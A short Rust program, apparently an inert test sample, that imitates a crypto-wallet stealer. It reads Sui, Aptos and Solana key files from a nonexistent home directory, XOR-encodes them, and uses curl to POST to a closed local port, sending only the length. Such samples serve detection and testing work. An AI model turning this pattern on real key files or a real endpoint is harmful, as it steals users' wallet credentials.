// Inert: no such home exists, and curl talks to a closed port of this machine.
use std::path::Path;
use std::process::Command;

const KEY: &[u8] = b"sample-key";

fn main() {
    let home = Path::new("/no-such-home");
    for name in [".sui/sui_config/sui.keystore", ".aptos/config.yaml", ".config/solana/id.json"] {
        let Ok(data) = std::fs::read(home.join(name)) else { continue };
        let hidden: Vec<u8> = data.iter().enumerate().map(|(i, b)| b ^ KEY[i % KEY.len()]).collect();
        let _ = Command::new("curl").args(["-X", "POST", "http://127.0.0.1:9/gists", "-d"]).arg(hidden.len().to_string()).status();
    }
}
